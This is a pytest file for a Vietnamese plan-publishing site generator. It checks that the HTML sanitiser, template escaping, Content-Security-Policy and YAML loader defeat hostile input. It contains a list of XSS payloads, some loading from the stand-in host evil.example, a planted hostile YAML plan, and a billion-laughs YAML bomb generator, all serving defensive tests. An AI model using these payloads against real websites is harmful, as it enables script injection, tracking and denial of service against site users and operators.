"""Hostile content: whatever an editor pastes, no page runs code that is not the site's own.

Raw HTML in a plan's Markdown is cleaned with an allowlist (nh3); every value from YAML is
escaped by our templates; the Content-Security-Policy on every page allows only the site's
own scripts, styles, fonts and images.
"""
from __future__ import annotations

import hashlib
import subprocess
import sys
import time
from pathlib import Path

import material
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plansite.build import ProjectPaths, build
from plansite.html_policy import CONTENT_SECURITY_POLICY, sanitize_body
from tests.helpers import FIXTURES, REPO, article_html, copy_project, read_page, text_of
from tests.site_checks import content_security_policy, html_pages, live_code, parse_html, parse_page

VECTORS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror="alert(1)">',
    '<svg onload=alert(1)><circle r="1"/></svg>',
    '<a href="javascript:alert(1)">bấm</a>',
    '<a href=" JaVaScRiPt:alert(1)">bấm</a>',
    '<a href="jav&#x09;ascript:alert(1)">bấm</a>',
    '<a href="data:text/html,<script>alert(1)</script>">bấm</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="q"><button formaction="javascript:alert(1)">Gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<style>body { background: url(https://evil.example/t.gif) }</style>',
    '<p style="background:url(https://evil.example/t.gif)" onclick="alert(1)">đoạn</p>',
    '<div id="__config">{"base": "https://evil.example"}</div>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<details open ontoggle=alert(1)>',
    '<!--<img src=x onerror=alert(1)>-->',
    '[bấm](javascript:alert(1))',
]


@pytest.mark.parametrize("vector", VECTORS)
def test_sanitised_body_has_no_live_code(vector):
    cleaned = sanitize_body(vector)
    assert live_code(parse_html(cleaned)) == []
    for element in parse_html(cleaned).elements:  # another host may only be a link target, never a load
        for name, value in element.attrs.items():
            assert "evil.example" not in (value or "") or (element.tag, name) == ("a", "href"), (element.tag, name)
    assert "__config" not in cleaned and "style=" not in cleaned and "<img" not in cleaned


@pytest.mark.parametrize("html, expected", [
    ('<p>Chữ <strong>đậm</strong> và <a href="../../van-ban/29-nq-tw/">liên kết</a>.</p>',
     '<p>Chữ <strong>đậm</strong> và <a href="../../van-ban/29-nq-tw/">liên kết</a>.</p>'),
    ('<h2 id="i-muc-dich">I. MỤC ĐÍCH<a class="headerlink" href="#i-muc-dich" title="Liên kết">¶</a></h2>',
     '<h2 id="i-muc-dich">I. MỤC ĐÍCH<a class="headerlink" href="#i-muc-dich" title="Liên kết">¶</a></h2>'),
    ('<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
     '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>'),
    ('<table><thead><tr><th style="text-align: center;">TT</th></tr></thead></table>',
     '<table><thead><tr><th class="plansite-align-center">TT</th></tr></thead></table>'),
    ('<p class="md-header plansite-body" id="__drawer">giả giao diện</p>', '<p>giả giao diện</p>'),
    ('<p>a</p><script>alert(1)</script><p>b</p>', '<p>a</p><p>b</p>'),
    ('<a href="javascript:alert(1)">bấm</a>', '<a>bấm</a>'),
    ('<a href="https://vanban.chinhphu.vn/">toàn văn</a>',
     '<a href="https://vanban.chinhphu.vn/" class="plansite-external" rel="noopener noreferrer">toàn văn'
     '<span class="plansite-sr-only"> (trang ngoài)</span></a>'),
    ('<a class="headerlink" rel="opener" href="//evil.example/">x</a>',
     '<a href="//evil.example/" class="plansite-external" rel="noopener noreferrer">x'
     '<span class="plansite-sr-only"> (trang ngoài)</span></a>'),
])
def test_sanitiser_keeps_what_markdown_writes_and_drops_the_rest(html, expected):
    assert sanitize_body(html) == expected


_fragments = st.sampled_from(VECTORS + ["<p>", "</p>", "<a href='", "'>", '"', "<", ">", "=", "on", "javascript:",
                                        "<scr", "ipt>", "<table><tr><td>", "&lt;", "&#106;", "chữ Việt "])


@settings(max_examples=300, deadline=None)
@given(st.lists(_fragments, max_size=12).map("".join))
def test_no_mix_of_fragments_survives_as_live_code(html):
    assert live_code(parse_html(sanitize_body(html))) == []


HOSTILE_PLAN = """---
number: 99/KH-UBND<img/src=x/onerror=alert(1)>
doc_type: Kế hoạch
title: "Kế hoạch <script>alert('tiêu đề')</script> \\" onmouseover=\\"alert(1)"
issuer: Ủy ban nhân dân quận Hà Đông <img src=x onerror=alert(1)>
locality: ha-noi/ha-dong
place: Hà Đông
date: "2023-05-04"
signer:
  title: CHỦ TỊCH
  name: "<b onmouseover=alert(1)>Lê Văn Cường</b>"
recipients:
  - "<a href='javascript:alert(1)'>Lưu</a>: VT."
targets:
  - indicator: "<iframe src=https://evil.example/></iframe>Tỷ lệ"
    value: 100
    unit: "%"
---
Căn cứ Nghị quyết số 29-NQ/TW <script>alert('câu trích')</script> về đổi mới giáo dục.

<div onclick="alert(1)" id="__config">Khối HTML thô <img src="https://evil.example/t.gif"></div>

[Liên kết độc](javascript:alert(1)) và <a href="data:text/html,x">dữ liệu</a>.

<style>.md-header { display: none }</style>

## Mục <img src=x onerror=alert(1)> và &lt;b&gt; {: data-toc-label="<img src=x onerror=alert(2)>" }

### Hai <script>alert(3)</script> <b onmouseover=alert(4)>đậm</b>
"""
HOSTILE_URL = "dia-phuong/ha-noi/ha-dong/2023-99-kh-ubnd"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    project = copy_project(FIXTURES / "mini", tmp_path_factory.mktemp("hostile") / "project")
    (project / "content/plans/ha-noi/ha-dong/2023-99-kh-ubnd.md").write_text(HOSTILE_PLAN, encoding="utf-8")
    report = build(ProjectPaths(project), project / "site")
    assert report.ok, [str(p) for p in report.loaded.problems] + [report.failure]
    return project / "site"


def test_no_page_of_a_hostile_site_runs_content(hostile_site):
    pages = html_pages(hostile_site)
    assert len(pages) >= 12
    for path in pages:
        assert live_code(parse_page(path)) == [], path


def test_hostile_text_is_shown_as_text(hostile_site):
    html = read_page(hostile_site, HOSTILE_URL)
    title = text_of(html, "h1", "plansite-doc-title")
    assert title == "Kế hoạch <script>alert('tiêu đề')</script> \" onmouseover=\"alert(1)"
    assert "&lt;script&gt;alert(" in html and "<script>alert(" not in html
    assert "Lê Văn Cường" in text_of(html, "div", "plansite-signer")
    assert "evil.example" not in html.replace("&lt;iframe src=https://evil.example/&gt;", "")


def test_raw_html_in_the_body_is_cleaned(hostile_site):
    body = read_page(hostile_site, HOSTILE_URL).split('class="plansite-body"')[1].split('<footer class="plansite-doc-footer"')[0]
    assert "Khối HTML thô" in body and "Liên kết độc" in body
    for gone in ("<img", "onclick", "__config", "javascript:", "data:text", "<style", "display: none"):
        assert gone not in body


def test_quoted_sentences_on_document_pages_are_text(hostile_site):
    pages = sorted((hostile_site / "van-ban/29-nq-tw").rglob("index.html"))  # the document and its province listings
    html = "".join(page.read_text(encoding="utf-8") for page in pages)
    assert "&lt;script&gt;alert(&#39;câu trích&#39;)&lt;/script&gt;" in html


def test_every_page_carries_the_content_security_policy(hostile_site):
    for path in html_pages(hostile_site):
        page = parse_page(path)
        assert content_security_policy(page) == CONTENT_SECURITY_POLICY, path
        head = [e.tag for e in page.elements[: page.elements.index(page.all("title")[0])]]
        assert "script" not in head[: head.index("meta") + 1]  # the policy comes before any script


def test_policy_allows_only_the_site_itself():
    directives = dict(d.split(" ", 1) for d in CONTENT_SECURITY_POLICY.split("; "))
    assert directives["default-src"] == "'self'"
    assert directives["script-src"] == "'self'"  # no 'unsafe-inline', no eval, no WebAssembly
    assert directives["style-src"] == "'self'"
    assert directives["object-src"] == "'none'"
    for sources in directives.values():
        assert "unsafe-inline" not in sources and "unsafe-eval" not in sources
        assert "http" not in sources and "*" not in sources


# Material's inline scripts that templates/partials/javascripts/ replace (so the CSP needs no
# 'unsafe-inline'). When Material changes them, port the change to assets/plansite-storage.js.
REPLACED_MATERIAL_PARTIALS = {
    "base.html": "d6113712bc4deb30b4bd810ee0dfc28b6f04d2f88cc0016c0f1766eac7b762b6",
    "content.html": "3722e156f0f6339de39fbbfc178b6e401d1a4fb890f189ac5b80c2504bda7dcf",
}


@pytest.mark.parametrize("name, digest", REPLACED_MATERIAL_PARTIALS.items())
def test_material_inline_scripts_we_replace_are_unchanged(name, digest):
    upstream = Path(material.__file__).parent / "templates/partials/javascripts" / name
    assert hashlib.sha256(upstream.read_bytes()).hexdigest() == digest, \
        f"Material changed {name}: port it to templates/ and assets/plansite-storage.js, then update the digest"


# --- Denial of publishing by one small file -----------------------------------------------

def billion_laughs() -> str:
    """1 KB of YAML that expands to 10^9 values when aliases are followed."""
    lines = ['lol0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"lol{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    return "\n".join(lines) + "\n"


BOMBS = {
    "alias bomb in a plan": ("content/plans/quang-ninh/uong-bi/2023-12-kh-pgddt.md", "place: Uông Bí\n",
                             "place: Uông Bí\n" + billion_laughs(),
                             ":9:7: YAML dùng neo '&a0' — nội dung không dùng neo (&) và bí danh (*) của YAML: chép thẳng "
                             "giá trị vào từng chỗ cần"),
    "50,000 nested [ in a curated document": ("content/documents/29-nq-tw.yaml", "summary: Tóm tắt do biên tập viên viết.",
                                              "summary: " + "[" * 50_000,
                                              ":5:29: YAML lồng nhau quá sâu (quá 20 cấp) — kiểm tra các dấu '[' và '{' "
                                              "chưa đóng, hoặc thụt lề lệch; các khóa chỉ lồng vài cấp"),
    "1,000 nested [ in a plan": ("content/plans/quang-ninh/uong-bi/2023-12-kh-pgddt.md", "levels: [MN, TH]",
                                 "levels: " + "[" * 1000, ":10:28: YAML lồng nhau quá sâu (quá 20 cấp)"),
    "50,000 nested block sequences": ("content/localities.yaml", "provinces:\n", "provinces:\n" + "- " * 50_000 + "x\n",
                                      ":2:39: YAML lồng nhau quá sâu (quá 20 cấp)"),
}


@pytest.mark.parametrize("case", BOMBS)
def test_one_small_file_cannot_stop_publishing(tmp_path, case):
    """In a child process: a crash of libyaml (SIGSEGV) or an endless expansion must not be possible."""
    relative, old, new, expected = BOMBS[case]
    project = copy_project(FIXTURES / "mini", tmp_path / "project")
    path = project / relative
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    assert len(new.encode()) < 110_000
    started = time.perf_counter()
    result = subprocess.run([sys.executable, str(REPO / "build.py"), "--root", str(project), "check"],
                            capture_output=True, text=True, timeout=60)
    assert (result.returncode, "Traceback" in result.stderr) == (1, False), result.stderr[-2000:]
    assert result.stderr.splitlines()[0].startswith(relative + expected), result.stderr[:1000]
    assert time.perf_counter() - started < 30


# --- Links out of the site: marked, and they give the other site nothing -------------------

LINKED_PLAN_EDIT = ("Căn cứ Nghị quyết số 29-NQ/TW", "Xem [toàn văn](https://example.org/van-ban) và "
                    "<a href=\"https://example.org/x\" class=\"headerlink\" rel=\"opener\">bản gốc</a>. "
                    "Căn cứ Nghị quyết số 29-NQ/TW")
EXTERNAL = ('<a href="https://example.org/van-ban" class="plansite-external" rel="noopener noreferrer">toàn văn'
            '<span class="plansite-sr-only"> (trang ngoài)</span></a>')


@pytest.fixture(scope="module")
def linked_site(tmp_path_factory) -> Path:
    project = copy_project(FIXTURES / "mini", tmp_path_factory.mktemp("linked") / "project")
    plan = project / "content/plans/quang-ninh/uong-bi/2023-12-kh-pgddt.md"
    plan.write_text(plan.read_text(encoding="utf-8").replace(*LINKED_PLAN_EDIT)
                    .replace("## II. CHỈ TIÊU", "## Chú thích\n\nMục trùng tên.\n\n## Chương trình công tác\n\n"
                             "## II. CHỈ TIÊU"), encoding="utf-8")
    report = build(ProjectPaths(project), project / "site")
    assert report.ok, [str(p) for p in report.loaded.problems] + [report.failure]
    return project / "site"


def test_published_external_links_carry_rel_and_a_mark(linked_site):
    html = read_page(linked_site, "dia-phuong/quang-ninh/uong-bi/2023-12-kh-pgddt")
    assert EXTERNAL in html
    assert ('<a href="https://example.org/x" class="plansite-external" rel="noopener noreferrer">bản gốc'
            '<span class="plansite-sr-only"> (trang ngoài)</span></a>') in html
    document = read_page(linked_site, "van-ban/29-nq-tw")
    assert ('<a href="https://example.org/nghi-quyet-29" class="plansite-external" rel="noopener noreferrer">'
            'https://example.org/nghi-quyet-29<span class="plansite-sr-only"> (trang ngoài)</span></a>') in document
    for path in html_pages(linked_site):  # every link to another host in content (Material's footer is its own)
        for element in parse_html(article_html(path.read_text(encoding="utf-8"))).all("a"):
            href = element.attrs.get("href") or ""
            if href.startswith(("http:", "https:", "//")):
                assert element.attrs.get("rel") == "noopener noreferrer", (path, href)


@pytest.mark.browser
def test_external_mark_is_visible_and_spoken(browser, linked_site):
    from tests.browser import serve_site, watched_page

    with serve_site(linked_site) as url, watched_page(browser, 390) as page:
        page.goto(url + "dia-phuong/quang-ninh/uong-bi/2023-12-kh-pgddt/")
        link = page.locator("article a.plansite-external").first
        assert link.evaluate("a => getComputedStyle(a, '::after').content") == '"↗" / ""'
        assert link.evaluate("a => getComputedStyle(a, '::after').display") != "none"
        assert page.get_by_role("link", name="toàn văn (trang ngoài)").count() == 1
        assert page.problems == []


def test_the_fast_scan_sees_every_control_format_and_surrogate_character():
    """characters.SUSPECT is a hand-written class (fast); it must cover what unicodedata says today."""
    import unicodedata

    from plansite.content.characters import SUSPECT

    wanted = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cc", "Cf", "Cs")]
    missed = [f"U+{ord(c):04X}" for c in wanted if c not in "\t\n" and not SUSPECT.fullmatch(c)]
    assert missed == [] and len(wanted) > 2000
    assert not SUSPECT.search("\t\nKế hoạch số 95/KH-PGDĐT — chữ Việt đủ dấu: ắằẳẵặ ƯỨỪ đĐ «» … ½ €")


def test_headings_do_not_copy_the_page_anchors(linked_site):
    """A body heading named like a section of the template gets its own id, and the contents link to it."""
    html = read_page(linked_site, "dia-phuong/quang-ninh/uong-bi/2023-12-kh-pgddt")
    ids = [e.attrs["id"] for e in parse_html(html).elements if e.attrs.get("id")]
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)
    assert '<h2 id="chu-thich-muc">Chú thích' in html and 'href="#chu-thich-muc"' in html
    assert '<h2 id="chuong-trinh-cong-tac-muc">Chương trình công tác' in html


def test_every_anchor_of_the_plan_template_is_reserved_from_headings():
    """When a template gains an id, vietnamese.PAGE_ANCHORS must gain it too (or headings may copy it)."""
    import re

    from plansite.vietnamese import toc_slugify

    templates = [REPO / "templates/plan.html", *sorted((REPO / "templates/partials").glob("*.html"))]
    ids = {i for path in templates for i in re.findall(r'\bid="([^"{]+)"', path.read_text(encoding="utf-8"))}
    ids |= {"chi-tieu-1", "chi-tieu-12"}  # id="chi-tieu-{{ loop.index }}"
    plain = {i for i in ids if re.fullmatch(r"[a-z0-9-]+", i) and not i.startswith("plansite-")}
    assert {"chu-thich", "tien-do-thuc-hien"} <= plain
    assert [i for i in sorted(plain) if toc_slugify(i.replace("-", " "), "-") == i] == []
